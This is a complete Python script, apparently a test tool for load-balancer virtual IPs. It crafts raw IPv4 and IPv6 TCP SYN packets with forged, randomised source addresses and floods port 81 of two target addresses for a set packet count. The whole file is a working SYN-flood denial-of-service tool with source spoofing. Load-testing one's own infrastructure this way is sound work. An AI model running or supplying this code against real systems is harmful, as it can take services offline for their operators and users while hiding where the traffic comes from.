#!/usr/bin/python3
"""Ask for so many connections from forged addresses, each another, to port 81 of both VIPs in turn.

usage: synflood.py DEVICE GATEWAY_MAC COUNT VIP VIP6
"""

import ipaddress
import random
import socket
import struct
import sys

device, gateway, count = sys.argv[1], bytes.fromhex(sys.argv[2].replace(":", "")), int(sys.argv[3])
vips = [ipaddress.ip_address(vip).packed for vip in sys.argv[4:]]


def sum16(data: bytes) -> int:
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    return ~(total % 0xFFFF) & 0xFFFF


def syn(addresses: bytes) -> bytes:
    head = struct.pack("!HHIIBBH", random.randrange(1024, 65536), 81, random.getrandbits(32), 0, 5 << 4, 2, 65535)
    return head + struct.pack("!HH", sum16(addresses + struct.pack("!HH", 6, 20) + head + bytes(4)), 0)


def packet4(vip: bytes) -> bytes:
    addresses = struct.pack("!I", 0x64400000 | random.getrandbits(22)) + vip
    head = struct.pack("!BBHIBB", 0x45, 0, 40, 0x4000, 64, 6)
    return head + struct.pack("!H", sum16(head + addresses)) + addresses + syn(addresses)


def packet6(vip: bytes) -> bytes:
    addresses = struct.pack("!IIQ", 0x20010DB8, 0xC0000, random.getrandbits(64)) + vip
    return struct.pack("!IHBB", 6 << 28, 20, 6, 64) + addresses + syn(addresses)


out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
out.bind((device, 0))
source = out.getsockname()[4]
for number in range(count):
    vip = vips[number % 2]
    kind, packet = (b"\x08\x00", packet4(vip)) if len(vip) == 4 else (b"\x86\xdd", packet6(vip))
    out.send(gateway + source + kind + packet)
